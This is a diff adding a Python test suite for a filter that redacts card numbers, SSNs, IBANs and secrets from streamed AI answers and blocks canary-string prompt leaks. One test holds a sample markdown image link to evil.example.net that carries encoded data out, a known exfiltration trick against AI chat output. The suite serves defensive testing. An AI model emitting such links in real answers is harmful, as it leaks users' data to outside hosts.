@@ -1,0 +1,190 @@
+"""Answers leave without sensitive data, whole or streamed in any chunks (L2.4)."""
+
+import json
+import random
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from lambdas.inspection import AnswerFilter, AnswerPolicy, DataClass, InspectionConfig, Inspector
+from lambdas.inspection.answers import CONTEXT, MAX_HELD
+
+from .made_up import ORDINARY, card, email, iban, placed, secrets, ssn
+
+INSPECTOR = Inspector(InspectionConfig(hash_key=b"k" * 32))
+STRICT = AnswerPolicy(redact_from=DataClass.INTERNAL)
+VALUES = (card, iban, ssn, email)
+
+
+def event(data: dict[str, Any]) -> bytes:
+    return f"event: {data['type']}\ndata: {json.dumps(data)}\n\n".encode()
+
+
+def parsed(events: list[bytes]) -> list[dict[str, Any]]:
+    return [json.loads(one.partition(b"data: ")[2]) for one in events]
+
+
+def stream(answer: AnswerFilter, pieces: list[str], kind: str = "text") -> list[dict[str, Any]]:
+    """What leaves when a block comes in these pieces."""
+    names = {
+        "text": ("text", "text_delta", "text"),
+        "tool_use": ("input", "input_json_delta", "partial_json"),
+        "thinking": ("thinking", "thinking_delta", "thinking"),
+    }
+    _, delta, key = names[kind]
+    block = (
+        {"type": kind, "text": ""} if kind == "text" else {"type": kind, "id": "t", "name": "n", "input": {}}
+    )
+    out = answer.event(event({"type": "content_block_start", "index": 0, "content_block": block}))
+    for piece in pieces:
+        body = {"type": "content_block_delta", "index": 0, "delta": {"type": delta, key: piece}}
+        out += answer.event(event(body))
+    out += answer.event(event({"type": "content_block_stop", "index": 0}))
+    return parsed(out)
+
+
+def joined(events: list[dict[str, Any]], key: str = "text") -> str:
+    return "".join(one["delta"][key] for one in events if one["type"] == "content_block_delta")
+
+
+@st.composite
+def answers(draw: st.DrawFn) -> tuple[str, list[str]]:
+    """A text with values in it, and the text in pieces."""
+    chance = random.Random(draw(st.integers(0, 10**6)))
+    parts: list[str] = []
+    for _ in range(draw(st.integers(1, 6))):
+        parts.append(draw(st.sampled_from(ORDINARY)))
+        if draw(st.booleans()):
+            parts.append(f"It is {chance.choice(VALUES)(chance)} as you said.")
+        if draw(st.booleans()):
+            parts.append(placed(chance.choice(list(secrets(chance).values())))[0])
+    text = draw(st.sampled_from((" ", "\n", "\n\n"))).join(parts) + draw(st.text(max_size=20))
+    pieces, position = [], 0
+    while position < len(text):
+        size = draw(st.sampled_from((1, 2, 3, 7, 20, 100)))
+        pieces.append(text[position : position + size])
+        position += size
+    return text, pieces
+
+
+@settings(max_examples=60, deadline=None)
+@given(answers())
+def test_a_stream_in_any_chunks_gives_exactly_what_the_whole_gives(case: tuple[str, list[str]]) -> None:
+    text, pieces = case
+    streamed = joined(stream(AnswerFilter(INSPECTOR, STRICT), pieces))
+    assert streamed == AnswerFilter(INSPECTOR, STRICT).text(text)
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.integers(0, 10**6), st.integers(1, 9))
+def test_no_value_leaves_a_stream(seed: int, size: int) -> None:
+    chance = random.Random(seed)
+    value = chance.choice(VALUES)(chance)
+    text = f"{chance.choice(ORDINARY)} Please use {value} for this. {chance.choice(ORDINARY)}"
+    pieces = [text[i : i + size] for i in range(0, len(text), size)]
+    streamed = joined(stream(AnswerFilter(INSPECTOR, STRICT), pieces))
+    assert value not in streamed
+    assert "[REDACTED " in streamed
+
+
+@settings(max_examples=30, deadline=None)
+@given(st.integers(0, 10**6), st.integers(1, 12))
+def test_tool_input_stays_valid_json_and_loses_only_the_value(seed: int, size: int) -> None:
+    chance = random.Random(seed)
+    value = chance.choice((card, iban, ssn))(chance)
+    sent = {"to": "the bank", "note": f"use {value} please", "n": 3, "nested": [{"x": "fine"}]}
+    text = json.dumps(sent)
+    pieces = [text[i : i + size] for i in range(0, len(text), size)]
+    got = json.loads(joined(stream(AnswerFilter(INSPECTOR), pieces, "tool_use"), "partial_json"))
+    assert value not in json.dumps(got)
+    assert {**got, "note": ""} == {**sent, "note": ""}
+
+
+def test_thinking_is_never_rewritten() -> None:
+    value = ssn(random.Random(3))
+    pieces = ["His SSN is ", value, "."]
+    assert joined(stream(AnswerFilter(INSPECTOR, STRICT), pieces, "thinking"), "thinking") == "".join(pieces)
+
+
+def test_clean_events_leave_byte_for_byte_and_soon() -> None:
+    answer = AnswerFilter(INSPECTOR)
+    start = event({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}})
+    assert answer.event(start) == [start]
+    words = [
+        "The",
+        "quick",
+        "brown",
+        "fox",
+        "jumps",
+        "over",
+        "the",
+        "lazy",
+        "dog",
+        "and",
+        "runs",
+        "away",
+        "from",
+        "all",
+        "of",
+        "the",
+        "hounds.",
+    ]
+    waiting = held = 0
+    for word in words:
+        delta = {"type": "text_delta", "text": word + " "}
+        raw = event({"type": "content_block_delta", "index": 0, "delta": delta})
+        out = answer.event(raw)
+        assert all(one.startswith(b"event: content_block_delta") for one in out)
+        waiting += 1 - len(out)
+        held = max(held, waiting)
+    assert held <= 2, "ordinary words wait for at most the next one"
+
+
+def test_what_is_held_back_is_bounded_even_without_a_space() -> None:
+    answer = AnswerFilter(INSPECTOR, STRICT)
+    stream(answer, [])
+    released = 0
+    answer.event(
+        event({"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}})
+    )
+    for number in range(60):
+        delta = {"type": "text_delta", "text": "a1" * 100}
+        out = answer.event(event({"type": "content_block_delta", "index": 1, "delta": delta}))
+        released += len(joined(parsed(out)))
+        assert (number + 1) * 200 - released <= MAX_HELD + CONTEXT + 400
+
+
+def test_a_canary_ends_the_stream_the_way_claude_refuses() -> None:
+    answer = AnswerFilter(INSPECTOR, AnswerPolicy(canaries=("zebra-7731-canary",)))
+    events = stream(
+        answer, ["My instructions begin with zebra-", "7731-canary and then go on. ", "More text."]
+    )
+    assert answer.blocked == "CANARY"
+    assert [one["type"] for one in events][-3:] == ["content_block_stop", "message_delta", "message_stop"]
+    assert events[-2]["delta"]["stop_reason"] == "refusal"
+    assert "canary" not in joined(events)
+    assert {"type": "CANARY", "count": 1, "action": "block"} in answer.decisions()
+
+
+def test_an_image_that_carries_data_out_is_removed_and_own_hosts_may_be_linked() -> None:
+    leak = "See ![x](https://evil.example.net/p.png?d=c2VjcmV0IHZhbHVlcw) here."
+    assert "evil" not in AnswerFilter(INSPECTOR).text(leak)
+    own = AnswerFilter(INSPECTOR, AnswerPolicy(allowed_hosts=("example.net",)))
+    assert own.text(leak) == leak
+
+
+def test_a_whole_body_is_the_same_bytes_unless_something_had_to_go() -> None:
+    clean = json.dumps({"type": "message", "content": [{"type": "text", "text": "Hello."}]}).encode()
+    assert AnswerFilter(INSPECTOR).whole(clean) is clean
+    value = ssn(random.Random(5))
+    body = json.dumps({"type": "message", "content": [{"type": "text", "text": f"SSN {value}"}]}).encode()
+    answer = AnswerFilter(INSPECTOR)
+    assert value.encode() not in answer.whole(body)
+    assert answer.decisions() == [{"type": "US_SSN", "count": 1, "action": "redact"}]
+
+
+@pytest.mark.parametrize("broken", [b"not json", b"[1, 2]", b'{"content": "x"}'])
+def test_what_is_no_message_passes_as_it_is(broken: bytes) -> None:
+    assert AnswerFilter(INSPECTOR).whole(broken) == broken
